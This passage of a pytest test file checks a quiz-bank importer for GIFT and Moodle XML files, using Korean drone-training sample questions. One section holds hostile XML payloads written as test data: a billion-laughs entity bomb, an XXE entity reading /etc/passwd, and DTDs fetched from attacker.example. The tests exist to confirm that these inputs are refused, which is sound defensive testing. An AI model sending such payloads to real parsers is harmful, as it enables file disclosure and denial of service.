            question_xml("truefalse", "<defaultgrade>두 점</defaultgrade>" + TF_TRUE),
            "the mark <defaultgrade>두 점</defaultgrade> is not a valid number of points",
        ),
        (question_xml("truefalse", "<defaultgrade>-1</defaultgrade>" + TF_TRUE), "<defaultgrade>-1</defaultgrade>"),
        ("<question><name><text>형식 없음</text></name></question>", "the <question> element has no type attribute"),
    ],
)
def test_moodle_errors_name_the_question(question, fragment):
    result = parse_moodle_xml(
        quiz(
            category_xml("$course$/top/드론"),
            question_xml("truefalse", TF_TRUE, name="정상"),
            category_xml("$course$/top/드론/오류"),
            question,
            question_xml("truefalse", TF_TRUE, name="마지막"),
        )
    )
    assert [(q.name, q.location) for q in result.questions] == [("정상", "question 1"), ("마지막", "question 3")]
    assert result.unsupported == []
    assert result.errors, "expected an error"
    for location, message in problems(result.errors):
        assert location == "question 2"
        assert message.startswith("Question 2: ")
    assert any(fragment in message for _location, message in problems(result.errors)), problems(result.errors)


def test_moodle_single_choice_message_explains_the_fix():
    (error,) = parse_moodle_xml(quiz(question_xml("multichoice", answer_xml(100, "가") + answer_xml(100, "나")))).errors
    assert error.message == (
        'Question 1: a single-choice question needs exactly one answer with fraction="100"; this one has 2. '
        'Give the right answer fraction="100", or set <single>false</single> to let trainees choose several answers.'
    )


# --------------------------------------------------------------------------------------------------
# Moodle XML: hostile and broken files
# --------------------------------------------------------------------------------------------------

DTD_REFUSED = (
    "The file contains a document type declaration (DTD) or entities, which are not allowed for security "
    "reasons. Export the questions from Moodle again as Moodle XML."
)

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<quiz><question type="truefalse"><questiontext><text>&lol9;</text></questiontext>
<answer fraction="100"><text>true</text></answer><answer fraction="0"><text>false</text></answer></question></quiz>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<quiz><question type="truefalse"><questiontext><text>&secret;</text></questiontext>
<answer fraction="100"><text>true</text></answer><answer fraction="0"><text>false</text></answer></question></quiz>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<quiz/>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE quiz SYSTEM "http://attacker.example/quiz.dtd">
<quiz><question type="truefalse"><questiontext><text>x</text></questiontext>
<answer fraction="100"><text>true</text></answer><answer fraction="0"><text>false</text></answer></question></quiz>
"""

HARMLESS_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE quiz>
<quiz><question type="truefalse"><questiontext><text>x</text></questiontext>
<answer fraction="100"><text>true</text></answer><answer fraction="0"><text>false</text></answer></question></quiz>
"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, XXE, PARAMETER_ENTITY, EXTERNAL_DTD, HARMLESS_DTD])
def test_moodle_dtds_and_entities_are_refused(data):
    result = parse_moodle_xml(data)
    assert result.questions == []
    assert result.unsupported == []
    assert problems(result.errors) == [("file", DTD_REFUSED)]


def test_moodle_xxe_through_parse_question_bank_is_refused():
    result = parse_question_bank("bank.xml", XXE)
    assert problems(result.errors) == [("file", DTD_REFUSED)]


def test_moodle_malformed_xml_says_where():
    data = quiz(question_xml("truefalse", TF_TRUE)).replace(b"</name>", b"</nam>", 1)
    (error,) = parse_moodle_xml(data).errors
    assert error.location == "file"
    assert error.message.startswith("The file is not well-formed XML (the problem is near line 3, column ")
    assert "&amp;" in error.message


def test_moodle_unescaped_ampersand_is_malformed():
    (error,) = parse_moodle_xml(
        b"<quiz>\n<question type='truefalse'><name><text>R&D</text></name></question></quiz>"
    ).errors
    assert error.location == "file"
    assert "near line 2" in error.message


def test_moodle_non_utf8_bytes_are_malformed():
    data = quiz(question_xml("truefalse", TF_TRUE, name="드론")).replace("드론".encode(), "드론".encode("cp949"))
    (error,) = parse_moodle_xml(data).errors
    assert error.location == "file"
    assert "not well-formed XML" in error.message


def test_moodle_wrong_root_element():
    result = parse_moodle_xml(b"<?xml version='1.0'?><questions><question type='truefalse'/></questions>")
    assert problems(result.errors) == [
        ("file", "The file is not a Moodle XML question bank: its top element is <questions>, but it should be <quiz>.")
    ]


@pytest.mark.parametrize("data", [b"", b"   ", b"not xml at all"])
def test_moodle_not_xml(data):
    (error,) = parse_moodle_xml(data).errors
    assert error.location == "file"
    assert "not well-formed XML" in error.message


def test_moodle_empty_quiz_is_an_error():
    for data in (quiz(), quiz(category_xml("$course$/top/드론"))):
        assert problems(parse_moodle_xml(data).errors) == [("file", "The file contains no questions.")]


def test_moodle_too_many_questions():
    result = parse_moodle_xml(quiz(category_xml("드론"), *[question_xml("truefalse", TF_TRUE)] * (MAX_QUESTIONS + 1)))
    assert result.questions == []
    assert problems(result.errors) == [
        (
            "file",
            "The file has 2001 questions, but at most 2000 can be imported at once. Split it into smaller files.",
        )
    ]


def test_moodle_exactly_the_maximum_number_of_questions_is_accepted():
    result = clean(parse_moodle_xml(quiz(category_xml("드론"), *[question_xml("truefalse", TF_TRUE)] * MAX_QUESTIONS)))
    assert len(result.questions) == MAX_QUESTIONS
    assert result.questions[-1].location == f"question {MAX_QUESTIONS}"


def test_moodle_too_large():
    data = quiz(question_xml("truefalse", TF_TRUE), "<!-- " + "x" * MAX_BYTES + " -->")
    result = parse_moodle_xml(data)
    assert problems(result.errors) == [
        (
            "file",
            "The file is larger than 5 MB. Split the question bank into smaller files and import them one at a time.",
        )
    ]


def test_moodle_random_damage_never_raises():
    sample = (DATA / "drone_bank.xml").read_bytes()
    rng = random.Random(99)
    for _round in range(300):
        data = bytearray(sample)
        for _ in range(rng.randint(1, 5)):
            position = rng.randrange(len(data))
            if rng.random() < 0.5:
                del data[position : position + rng.randint(1, 40)]
            else:
                data[position:position] = rng.choice([b"<", b">", b"&", b'"', b"</text>", b"fraction=", b"\xff"])
        result = parse_moodle_xml(bytes(data))
        for problem in result.errors + result.unsupported:
            assert problem.location == "file" or problem.location.startswith("question ")


# --------------------------------------------------------------------------------------------------
# parse_question_bank: picking the parser, decoding, limits
# --------------------------------------------------------------------------------------------------

GIFT_SAMPLE = "::제목::드론은 항공기이다. {T}\n".encode()
XML_SAMPLE = quiz(question_xml("truefalse", TF_TRUE, name="제목"))


@pytest.mark.parametrize(
    ("filename", "data"),
    [
        ("bank.gift", GIFT_SAMPLE),
        ("BANK.GIFT", GIFT_SAMPLE),
        ("문제 은행.txt", GIFT_SAMPLE),
        ("exports/2024.06/bank.Txt", GIFT_SAMPLE),
        ("bank.xml", XML_SAMPLE),
        ("moodle-export.XML", XML_SAMPLE),
    ],
)
def test_parse_question_bank_picks_the_parser_by_extension(filename, data):
    result = clean(parse_question_bank(filename, data))
    assert result.questions[0].name == "제목"
    assert result.questions[0].correct is True
    expected = "question 1" if filename.lower().endswith(".xml") else "line 1"
    assert result.questions[0].location == expected


def test_parse_question_bank_does_not_guess_from_the_content():
    result = parse_question_bank("bank.gift", XML_SAMPLE)
    assert result.questions == []
    assert result.unsupported  # read as GIFT: a description without an answer block
    result = parse_question_bank("bank.xml", GIFT_SAMPLE)
    assert "not well-formed XML" in result.errors[0].message


@pytest.mark.parametrize("filename", ["bank.docx", "bank.csv", "bank", "bank.gift.zip", ".gift.", "README"])
def test_parse_question_bank_unknown_extension(filename):
    result = parse_question_bank(filename, GIFT_SAMPLE)
    assert result.questions == []
    (error,) = result.errors
    assert error.location == "file"
    assert error.message.endswith(
        "is not a file type that can be imported. Upload a GIFT file (.gift or .txt) or a Moodle XML file (.xml)."
    )


def test_parse_question_bank_names_the_file_in_the_extension_error():
    (error,) = parse_question_bank("uploads/드론 문제.docx", GIFT_SAMPLE).errors
    assert error.message.startswith("“드론 문제.docx” is not a file type")


NOT_UTF8 = (
    "The file is not UTF-8 text. Save it with the UTF-8 encoding (in Notepad: Save as → Encoding: UTF-8) "
    "and upload it again."
)


@pytest.mark.parametrize(
    ("filename", "data"),
    [
        ("bank.gift", "::제목::드론은 항공기이다. {T}".encode("cp949")),
        ("bank.txt", "드론 {T}".encode("utf-16")),
        (
            "bank.xml",
            quiz(question_xml("truefalse", TF_TRUE, name="드론")).replace("드론".encode(), "드론".encode("cp949")),
        ),
        ("bank.gift", b"\xff\xfe\x00"),
    ],
)
def test_parse_question_bank_rejects_bytes_that_are_not_utf8(filename, data):
    result = parse_question_bank(filename, data)
    assert result.questions == []
    assert problems(result.errors) == [("file", NOT_UTF8)]


@pytest.mark.parametrize(("filename", "data"), [("bank.gift", GIFT_SAMPLE), ("bank.xml", XML_SAMPLE)])
def test_parse_question_bank_accepts_a_utf8_byte_order_mark(filename, data):
    result = clean(parse_question_bank(filename, b"\xef\xbb\xbf" + data))
    assert result.questions[0].name == "제목"


@pytest.mark.parametrize("filename", ["bank.gift", "bank.xml"])
def test_parse_question_bank_size_limit(filename):
    result = parse_question_bank(filename, b" " * (MAX_BYTES + 1))
    assert problems(result.errors) == [
        (
            "file",
            "The file is larger than 5 MB. Split the question bank into smaller files and import them one at a time.",
        )
    ]


def test_parse_question_bank_accepts_a_file_just_under_the_limit():
    padding = b"// " + b"x" * (MAX_BYTES - len(GIFT_SAMPLE) - 5) + b"\n\n"
    data = padding + GIFT_SAMPLE
    assert len(data) <= MAX_BYTES
    result = clean(parse_question_bank("bank.gift", data))
    assert result.questions[0].location == "line 3"


# --------------------------------------------------------------------------------------------------
# The sample banks (the end-to-end import tests use them too)
# --------------------------------------------------------------------------------------------------


def _types(result: ImportResult) -> dict[str, int]:
    counts: dict[str, int] = {}
    for question in result.questions:
        counts[question.type] = counts.get(question.type, 0) + 1
    return counts


def test_sample_gift_bank_imports_cleanly():
    result = clean(parse_question_bank("drone_bank.gift", (DATA / "drone_bank.gift").read_bytes()))
    assert len(result.questions) == 13
    assert _types(result) == {"single": 3, "multiple": 1, "true_false": 3, "short": 2, "numeric": 4}
    assert {q.category for q in result.questions} == {
        "드론 기초/기체 구조",
        "드론 기초/전원",
        "드론 기초/항법",
        "드론 기초/법규와 조종",
    }
    by_name = {q.name: q for q in result.questions}
    assert len(by_name) == 13

    first = by_name["쿼드콥터 프로펠러 수"]
    assert first.location == "line 7"
    assert first.choices[0] == ImportedChoice("4개", 1.0, "맞습니다. 쿼드(quad)는 넷을 뜻합니다.")
    assert first.feedback.startswith("쿼드콥터는 네 프로펠러")

    gap = by_name["비행 제어기 펌웨어"]
    assert gap.text == "Pixhawk 비행 제어기에서 널리 쓰이는 오픈소스 비행 스택은 _____ 입니다."

    battery = by_name["배터리 셀 전압"]
    assert battery.text == "<p>LiPo 배터리 <strong>1셀</strong>의 공칭 전압은 몇 V입니까?</p>"
    assert (battery.value, battery.tolerance) == (3.7, 0.05)

    assert (
        by_name["GNSS 최소 위성 수"].text
        == "수신기 시계 오차까지 풀어 3차원 위치를 구하려면\nGNSS 위성이 최소 몇 개 필요합니까?"
    )
    assert [c.fraction for c in by_name["자세 추정 센서"].choices] == [0.5, 0.5, -1.0, -1.0]
    assert by_name["자동 복귀 기능"].answers == ["RTH", "RTL"]
    assert by_name["야간 비행"].correct is False
    channel = by_name["조종기 채널"]
    assert channel.correct is True
    assert channel.text == "모드 2 조종기에서 스로틀은 왼쪽 스틱의 상하 방향이며: AETR 배열에서 채널 #3에 해당한다."


def test_sample_xml_bank_imports_cleanly():
    result = clean(parse_question_bank("drone_bank.xml", (DATA / "drone_bank.xml").read_bytes()))
    assert len(result.questions) == 13
    assert _types(result) == {"single": 3, "multiple": 2, "true_false": 2, "short": 2, "numeric": 4}
    assert [q.location for q in result.questions] == [f"question {n}" for n in range(1, 14)]
    assert {q.category for q in result.questions} == {
        "드론 기초/기체 구조",
        "드론 기초/전원",
        "드론 기초/항법",
        "드론 기초/법규와 조종",
    }
    by_name = {q.name: q for q in result.questions}
    assert len(by_name) == 13
    assert by_name["ESC의 역할"].points == 2.0
    assert by_name["GNSS 위성군"].points == 3.0
    assert by_name["자세 추정 센서"].type == "multiple"
    assert by_name["비행 제어기 펌웨어"].type == "single"
    assert [c.fraction for c in by_name["비행 제어기 펌웨어"].choices] == [1.0, 0.5, 0.0]
    assert by_name["자동 복귀 기능"].answers == ["RTH", "RTL"]
    assert (by_name["이론 비행 시간"].value, by_name["이론 비행 시간"].tolerance) == (15.0, 0.5)
    assert by_name["프로펠러 회전 방향"].correct is True
    assert by_name["야간 비행"].correct is False
    assert by_name["쿼드콥터 프로펠러 수"].choices[0].feedback == "<p>맞습니다. 쿼드(quad)는 넷을 뜻합니다.</p>"


def test_sample_banks_hold_the_same_questions():
    gift = parse_gift((DATA / "drone_bank.gift").read_text(encoding="utf-8"))
    xml = parse_moodle_xml((DATA / "drone_bank.xml").read_bytes())
    assert {q.name for q in gift.questions} - {q.name for q in xml.questions} == {"조종기 채널"}


def test_broken_gift_bank_reports_every_problem():
    result = parse_question_bank("broken.gift", (DATA / "drone_bank_broken.gift").read_bytes())
    assert [(q.name, q.location) for q in result.questions] == [("정상 문제", "line 5")]
    found = problems(result.errors)
    expected = [
        ("line 7", "a single-choice question needs exactly one answer marked with =; this one has 2."),
        ("line 9", "the weights of the right answers add up to 90%"),
        ("line 11", "the answer block opened with { is never closed"),
        ("line 13", "“3,7” is not a number"),
        ("line 15", "the answer “Kinematic” is worth 45%, which is not one of the grades Moodle allows"),
        ("line 19", "the question has no text"),
        ("line 21", "the answer block {PX4} is not valid GIFT"),
        ("line 23", "needs at least 2 answers; this one has 1"),
        ("line 25", "the tolerance -1 is negative"),
    ]
    assert len(found) == len(expected)
    for (location, message), (want_location, fragment) in zip(found, expected, strict=True):
        assert location == want_location
        assert message.startswith(f"Line {want_location.split()[1]}: ")
        assert fragment in message
    assert [problem.location for problem in result.unsupported] == ["line 17"]
    assert "it is a description (text only)" in result.unsupported[0].message


def test_broken_xml_bank_reports_every_problem():
    result = parse_question_bank("broken.xml", (DATA / "drone_bank_broken.xml").read_bytes())
    assert [(q.name, q.location) for q in result.questions] == [("정상 문제", "question 1")]
    found = problems(result.errors)
    expected = [
        ("question 2", 'exactly one answer with fraction="100"; this one has 2.'),
        ("question 3", "add up to 80%"),
        ("question 5", "in the question “단답 부분 점수”, the answer “Kinematic” is worth 45%"),
        ("question 6", "“약 3.7” is not a number"),
        ("question 7", "the tolerance -1 is negative"),
        ("question 8", "the question has no text"),
        ("question 9", "a true/false question needs exactly one answer"),
        ("question 10", "needs at least 2 answers; this one has 1"),
        ("question 12", "is not a valid number of points"),
    ]
    assert len(found) == len(expected)
    for (location, message), (want_location, fragment) in zip(found, expected, strict=True):
        assert location == want_location
        assert message.startswith(f"Question {want_location.split()[1]}: ")
        assert fragment in message
    assert [problem.location for problem in result.unsupported] == ["question 4", "question 11"]
    assert "description items" in result.unsupported[0].message
    assert "calculated questions" in result.unsupported[1].message
